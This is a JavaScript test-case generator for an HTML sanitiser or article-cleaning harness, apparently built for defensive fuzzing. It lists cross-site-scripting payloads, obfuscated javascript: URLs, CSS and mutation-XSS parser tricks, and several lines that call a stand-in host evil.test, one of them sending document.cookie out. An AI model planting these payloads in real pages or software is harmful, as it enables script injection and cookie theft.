// Hostile pieces of markup, each in the middle of an article: those of a folder of JSON lines, and generated ones. The same seed makes the same cases.
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";

/**
 * A piece of markup and where it goes. `keep` are words that must stay in the article; `words` is hostile text for the title, names, captions and dates.
 * @typedef {{ id: string, html: string, where?: "head" | "body", keep?: string[], words?: string }} Case
 */

/** A pseudo-random generator, the same in every run (xorshift32, Marsaglia 2003). */
export class Dice {
  /** @param {number} seed */
  constructor(seed) {
    this.state = (Math.imul(seed, 2654435761) ^ 0x9e3779b9) >>> 0 || 1;
    for (let n = 0; n < 8; n += 1) this.roll(1);
  }

  /** @param {number} sides */
  roll(sides) {
    let x = this.state;
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    this.state = x >>> 0;
    return this.state % sides;
  }

  /** @template T @param {T[]} list @returns {T} */
  pick(list) {
    return list[this.roll(list.length)];
  }

  /** @param {number} percent */
  chance(percent) {
    return this.roll(100) < percent;
  }
}

const HARM = ["alert(1)", "parent.alert(1)", "top.location='http://evil.test/gone'", "fetch('http://evil.test/told')", "window.open('http://evil.test/')", "new Image().src='http://evil.test/'+document.cookie"];

/** Elements of HTML, SVG, MathML, obsolete ones, ones with text only, and made-up ones. */
const NAMES = `a abbr area article aside audio b base bdo blockquote body br button canvas caption center code col colgroup datalist dd del details dfn
  dialog div dl dt em embed fieldset figcaption figure font footer form frame frameset h1 h2 head header hr html i iframe image img input ins isindex
  kbd keygen label legend li link listing main map mark marquee menu meta meter nav nobr noembed noframes noscript object ol optgroup option output p
  param picture plaintext portal pre progress q rb rp rt rtc ruby s samp script search section select selectedcontent slot small source span strike
  strong style sub summary sup svg table tbody td template textarea tfoot th thead time title tr track tt u ul var video wbr xmp x-y
  math mi mo mn ms mtext mglyph malignmark annotation-xml semantics maction mrow mtable mstyle menclose
  g path a text use image animate animateTransform set foreignObject desc style script switch handler filter feImage`.split(/\s+/);

const HANDLERS = ["onload", "onerror", "onclick", "onfocus", "onmouseover", "ontoggle", "onbegin", "onanimationend", "onpageshow", "onbeforetoggle", "oncontentvisibilityautostatechange", "onscrollend", "onpointerrawupdate", "onformdata", "onsecuritypolicyviolation", "OnErRoR", "onload\u000c"];

const ADDRESSES = ["href", "src", "srcset", "action", "formaction", "data", "poster", "background", "cite", "longdesc", "xlink:href", "ping", "data-src", "data-srcset", "data-original", "data-lazy-src", "manifest", "profile", "codebase", "classid", "usemap", "icon", "lowsrc", "dynsrc", "attributionsrc", "imagesrcset", "from", "to", "values"];

const STYLES = ["background:url(http://evil.test/s)", "width:expression(alert(1))", "-moz-binding:url(http://evil.test/x#y)", "behavior:url(#x)", "position:fixed;inset:0;z-index:9999", "b\\61ckground:u\\72l(http://evil.test/e)", "content:url(http://evil.test/c)", "animation:x 1s", "list-style:url('http://evil.test/l')", "--a:url(http://evil.test/v);background:var(--a)"];

const CSS = ["@import 'http://evil.test/i.css';", "@import url(//evil.test/j.css);", "p{background:url(http://evil.test/b)}", "@font-face{font-family:x;src:url(http://evil.test/f)}*{font-family:x}", "</style><img src=x onerror=alert(1)>", "a[href^='h']{background:url(http://evil.test/h)}", "<!--</style><img src=1 onerror=alert(1)>-->"];

/** An address with a dangerous scheme, written in one of the ways that browsers accept or once did. @param {Dice} dice */
function address(dice) {
  const code = dice.pick(HARM);
  const written = dice.pick([`javascript:${code}`, `JaVaScRiPt:${code}`, ` javascript:${code}`, `\u0001javascript:${code}`, `java\tscript:${code}`, `java&#10;script:${code}`, `javascript&colon;${code}`, `&#106;avascript:${code}`, `&#x6A&#x61vascript:${code}`, `javascript:/*http://ok.test/*/${code}`,
    `vbscript:msgbox(1)`, `data:text/html,<script>${code}</script>`, "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${code}'/>`, `data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>${code}</x:script>`,
    "//evil.test/a", "http://evil.test/b?c=d", "\\\\evil.test\\c", "https:evil.test", "http://ok.test@evil.test/", "blob:http://evil.test/a", "file:///etc/passwd", "view-source:http://evil.test", "feed:javascript:alert(1)", "jar:http://evil.test!/", "about:blank", "filesystem:http://evil.test/a", "ms-its:x", "#\"><img src=x onerror=alert(1)>"]);
  return written;
}

/** A quoted value, quoted in one of the ways of HTML, also wrongly. @param {Dice} dice @param {string} value */
function quoted(dice, value) {
  switch (dice.roll(6)) {
    case 0: return value.replace(/[\s>]/g, "&#32;");
    case 1: return `'${value}'`;
    case 2: return `\`${value}\``;
    case 3: return `"${value}`;
    default: return `"${value.replaceAll('"', "&quot;")}"`;
  }
}

/** @param {Dice} dice @returns {string} */
function attribute(dice) {
  switch (dice.roll(12)) {
    case 0: case 1: case 2: return `${dice.pick(HANDLERS)}=${quoted(dice, dice.pick(HARM))}`;
    case 3: case 4: case 5: return `${dice.pick(ADDRESSES)}=${quoted(dice, address(dice))}`;
    case 6: return `style=${quoted(dice, dice.pick(STYLES))}`;
    case 7: return `${dice.pick(["id", "name", "form", "for", "slot", "part", "is"])}=${dice.pick(["body", "location", "cookie", "attributes", "__proto__", "constructor", "createElement", "panels", "bar", "pith-1", "article", "text", "firstChild", "parentNode", "submit", "querySelector"])}`;
    case 8: return `srcdoc=${quoted(dice, `<script>${dice.pick(HARM)}</script>`)}`;
    case 9: return `${dice.pick(["title", "alt", "aria-label", "summary", "label", "value", "content", "lang", "class", "datetime"])}=${quoted(dice, piece(dice, 1))}`;
    case 10: return dice.pick(["autofocus tabindex=1", "open", "controls autoplay", "target=_blank", "target=_top", "http-equiv=refresh content='0;url=http://evil.test/r'", "http-equiv=Content-Security-Policy content='*'", "rel=stylesheet", "rel=preload as=script", "rel=prefetch", "rel=import", "type=image", "type=text/javascript", "shadowrootmode=open", "allow=*", "attributeName=href", "attributeName=onclick", "encoding=text/html", "xmlns='http://www.w3.org/1999/xhtml'", "xmlns:x='&#34;><img src=x onerror=alert(1)>'", "contenteditable", "popover", "popovertarget=x", "hidden=until-found", "itemprop=x itemscope", "dir=rtl", "usemap=#x", "ismap"]);
    default: return `/${dice.pick(["x", "\"", "'", "<", "=", "onerror", "\u0000", "a:b", "[", "{{x}}", "@click", "v-html", "ng-init"])}=${quoted(dice, dice.pick(HARM))}`;
  }
}

/** @param {Dice} dice @param {number} depth @returns {string} */
function element(dice, depth) {
  const name = dice.pick(NAMES);
  const written = dice.chance(10) ? name.toUpperCase() : dice.chance(3) ? `${name}\u000c` : name;
  const attributes = Array.from({ length: dice.roll(4) }, () => `${dice.pick([" ", "/", "\n", "\t"])}${attribute(dice)}`).join("");
  const inside = name === "style" ? dice.pick(CSS) : name === "script" && dice.chance(70) ? dice.pick(HARM) : Array.from({ length: dice.roll(3) }, () => piece(dice, depth - 1)).join("");
  const end = dice.chance(70) ? `</${name}>` : dice.chance(20) ? `</${dice.pick(NAMES)}>` : "";
  return `<${written}${attributes}${dice.chance(5) ? "/" : ""}${dice.chance(97) ? ">" : ""}${inside}${end}`;
}

/** Shapes of markup that a second parser reads in another way than the first. @param {Dice} dice */
function mutation(dice) {
  const harm = dice.pick(["<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "<svg onload=alert(1)>", "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", "<style>@import 'http://evil.test/m.css'</style>"]);
  const raw = dice.pick(["style", "title", "textarea", "xmp", "noscript", "noembed", "noframes", "iframe", "script", "plaintext", "option", "select", "template", "listing", "selectedcontent"]);
  const foreign = dice.pick(["svg", "math", "math><mtext", "svg><foreignObject", "svg><desc", "math><annotation-xml encoding=text/html", "math><mi", "svg><title", "math><mtext><table><mglyph", "form><math><mtext></form><form><mglyph", "svg><p", "math><malignmark"]);
  return dice.pick([
    `<${foreign}><${raw}>${harm}</${raw}>`, `<${foreign}><${raw}><!--</${raw}>${harm}-->`, `<${raw}><${foreign}></${raw}>${harm}`, `<${foreign}><${raw}><a title="</${raw}>${harm}">`,
    `<p title='</p>${harm}'>`, `<a id='--><!--' title='-->${harm}'><!--`, `<!--${harm}-->`, `<!-->${harm}-->`, `<!--->${harm}-->`, `<!-- --!>${harm}-->`, `<![CDATA[${harm}]]>`, `<${foreign}><![CDATA[><${raw}>]]>${harm}`, `<?x ${harm}?>`, `<!x ${harm}>`, `</ ${harm}>`, `</x ${harm}>`,
    `<table><${raw}>${harm}</${raw}><tr><td>cell</table>`, `<table><a href='x'>${harm}<td>${harm}</table>`, `<select><${raw}>${harm}</${raw}></select>`, `<${raw}>${harm.replaceAll("<", "&lt;")}</${raw}>`, `<pre><code>${harm.replaceAll("<", "&lt;")}</code></pre>`, `&lt;${harm.slice(1)}`, `&amp;lt;${harm.slice(1)}`,
    `<template><${raw}>${harm}</${raw}></template>`, `<div><template shadowrootmode=open>${harm}</template></div>`, `<${"div><".repeat(dice.roll(40) + 500)}b>${harm}`, `<${raw} ><\u0000${harm}`, `<noscript><p title="</noscript>${harm}">`, `<svg><style>&lt;/style>${harm}`, `<form id=x></form><button form=x formaction=javascript:alert(1)>go</button>`,
    `<math href=javascript:alert(1)><mi xlink:href=javascript:alert(1)>x</mi></math>`, `<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/></svg>`,
  ]);
}

/** Text that means something in Markdown. @param {Dice} dice */
function markdown(dice) {
  const to = address(dice).replaceAll("<", "&lt;");
  return dice.pick([`[x](${to})`, `![x](${to})`, `[x]: ${to}`, `&lt;${to}&gt;`, `\`\`&lt;img src=x onerror=alert(1)&gt;\`\``, `\n\n    &lt;script&gt;alert(1)&lt;/script&gt;`, `[x](&lt;${to}&gt;)`, `&lt;img src=x onerror=alert(1)&gt;`, `\\&lt;script&gt;alert(1)&lt;/script&gt;`, `a | b\n--|--\n[x](${to}) | y`, `[^1]: ${to}`, `&amp;lt;script>`, `# &lt;svg onload=alert(1)&gt;`, `- [ ] ![&lt;](${to})`, `![](http://evil.test/" onerror="alert(1))`, `]( ${to} "`, `\`\`\`html\n&lt;/code&gt;&lt;script&gt;alert(1)&lt;/script&gt;`, `&lt;!-- --&gt; &lt;?php`, `&lt;/p&gt;&lt;iframe srcdoc=x&gt;`]);
}

/** @param {Dice} dice @param {number} depth @returns {string} */
function piece(dice, depth) {
  if (depth <= 0) return dice.pick(["words", "&lt;b&gt;", "<br>", "x", "\u202e", "&amp;", "]]>", "-->", "\"", "'", "{{7*7}}"]);
  const roll = dice.roll(10);
  if (roll < 6) return element(dice, depth);
  if (roll < 9) return mutation(dice);
  return `<p>${markdown(dice)}</p>`;
}

/** Harmless markup whose words must all stay. @param {Dice} dice @param {number} number @returns {Pick<Case, "html" | "keep">} */
function benign(dice, number) {
  const [one, two] = [`kept${number}one`, `kept${number}two`];
  const html = dice.pick([
    `<pre><code>&lt;script&gt;${one}()&lt;/script&gt;\n${two} = "&lt;img onerror&gt;"</code></pre>`, `<table><tr><th>Name</th><th>Value</th></tr><tr><td>${one}</td><td>${two}</td></tr><tr><td>a</td><td>b</td></tr></table>`,
    `<p>She wrote <a href="https://ok.test/${number}">${one}</a> and <em>javascript: ${two}</em> on the wall of the old harbour office.</p>`, `<ul><li>${one} is one thing that is kept here</li><li>${two} is the other</li></ul>`,
    `<blockquote><p>${one}, said the old man, and ${two} is what he meant by it.</p></blockquote>`, `<p>The sum is <math><mi>${one}</mi><mo>+</mo><mi>${two}</mi></math>, as everybody knew.</p>`, `<h2>About ${one}</h2><p>The onclick of ${two} was never heard again in that harbour.</p>`,
    `<dl><dt>${one}</dt><dd>a word that means ${two} and nothing else</dd></dl>`,
  ]);
  return { html, keep: [one, two] };
}

/** One in so many generated cases is harmless. */
const BENIGN = 40;

/** @param {number} seed @param {number} count @returns {Case[]} */
export function generate(seed, count) {
  return Array.from({ length: count }, (_, n) => {
    const dice = new Dice(seed * 1_000_003 + n);
    const id = `made-${seed}-${n}`;
    if (n % BENIGN === BENIGN - 1) return { id, ...benign(dice, n) };
    const html = Array.from({ length: 1 + dice.roll(3) }, () => piece(dice, 2 + dice.roll(3))).join(dice.chance(30) ? "<p>between</p>" : "");
    return { id, html, where: dice.chance(6) ? "head" : "body", words: dice.pick([piece(dice, 2), address(dice), markdown(dice), mutation(dice)]) };
  });
}

/** The cases in all files of JSON lines below a folder. Inputs of tree construction are cases like the others. @param {string} folder @returns {Case[]} */
export function casesIn(folder) {
  const files = readdirSync(folder).filter((name) => name.endsWith(".jsonl")).sort();
  return files.flatMap((name) => readFileSync(join(folder, name), "utf8").split("\n").filter(Boolean).map((line) => JSON.parse(line)))
    .map(({ id, html, where, keep, benign }) => ({ id, html, where, keep: benign ? keep : undefined, words: html.slice(0, 400) }));
}

/** Raw payloads that must be noticed, or the harness is blind: by what they do. @type {[noticed: "executed" | "navigated" | "requested" | "constructs", html: string][]} */
export const RAW = [
  ["executed", "<script>alert(1)</script>"], ["executed", "<img src=x onerror=alert(1)>"], ["executed", "<svg onload=alert(1)>"], ["executed", "<details open ontoggle=alert(1)><summary>s</summary>x</details>"],
  ["executed", "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>"], ["executed", "<a href=javascript:alert(1)>x</a>"], ["navigated", "<form action=javascript:alert(1)><button>x</button></form>"], ["executed", "<script src=//evil.test/a.js></script>"],
  ["executed", "<a href='java&#10;script:alert(1)'>x</a>"], ["navigated", "<meta http-equiv=refresh content='0;url=http://evil.test/r'>"], ["navigated", "<script>location='http://evil.test/'</script>"], ["navigated", "<script>window.open('http://evil.test/')</script>"],
  ["navigated", "<form action=http://evil.test/><button>x</button></form>"], ["requested", "<style>@import 'http://evil.test/a.css'</style>"], ["requested", "<link rel=stylesheet href=http://evil.test/b.css>"], ["requested", "<iframe src=http://evil.test/c></iframe>"],
  ["requested", "<video src=http://evil.test/d.mp4 autoplay></video>"], ["requested", "<script>fetch('http://evil.test/e')</script>"], ["requested", "<object data=http://evil.test/f></object>"], ["requested", "<a href=http://ok.test/ ping=http://evil.test/g>x</a><style>@font-face{font-family:x;src:url(http://evil.test/h)}p{font-family:x}</style><p>x"],
  ["constructs", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph>"], ["constructs", "<base href=http://evil.test/>"], ["constructs", "<a href=vbscript:x>x</a>"], ["constructs", "<p title=x onclick=alert(1)>x</p>"],
  ["constructs", "<form id=attributes><input name=body></form>"], ["constructs", "<svg><a><set attributeName=href to=javascript:alert(1) /></a></svg>"], ["constructs", "<p style='background:url(http://evil.test/p)'>x</p>"], ["constructs", "<template><img src=x onerror=alert(1)></template>"],
];
